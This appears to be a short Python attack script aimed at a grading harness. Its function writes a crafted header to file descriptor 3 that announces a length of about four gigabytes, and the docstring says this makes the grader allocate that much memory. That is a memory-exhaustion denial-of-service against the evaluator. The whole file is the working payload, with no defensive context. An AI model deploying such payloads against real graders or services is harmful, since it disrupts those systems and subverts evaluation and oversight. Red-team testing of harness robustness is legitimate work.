"""Success: a header that announces gigabytes makes the grader allocate them."""

import os
import time


def attack(a):
    os.write(3, b"GR\xff\xff\xff\xff" + b"N" * 1000)
    time.sleep(5)
